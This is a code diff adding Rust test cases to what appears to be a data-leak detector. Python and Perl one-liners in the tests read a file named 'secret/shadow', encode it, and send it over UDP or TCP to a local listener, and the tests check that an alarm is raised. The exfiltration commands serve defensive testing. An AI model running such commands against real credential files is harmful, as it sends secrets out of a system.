@@ -128,6 +128,27 @@ fn python() {
     }
 }
 
+/// As in the questions of a resolver: encoded, in datagrams.
+#[test]
+fn in_datagrams() {
+    need!("/usr/bin/python3");
+    let socket = std::net::UdpSocket::bind(("127.0.0.1", 0)).expect("bind");
+    let port = socket.local_addr().expect("address").port();
+    let run = leaking(&in_python(&format!(
+        "import socket, base64; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((\"127.0.0.1\", {port})); s.send(base64.b64encode(open(\"secret/shadow\",\"rb\").read())[:60])"
+    )));
+    left(&run, "python3", "correlated");
+}
+
+#[test]
+fn perl() {
+    need!("perl");
+    let code = "use IO::Socket::INET; open(F, \"secret/shadow\"); local $/; my $d = <F>; \
+        my $s = IO::Socket::INET->new(PeerAddr => \"127.0.0.1:$ENV{P}\") or die; print $s $d; close $s";
+    let alarm = left(&leaking(&format!("perl -e '{code}'")), "perl", "proven");
+    assert_eq!(alarm.0["count"], 1);
+}
+
 #[test]
 fn through_pipes_and_programs() {
     need!("gzip", "openssl", "base64", "nc", "curl");
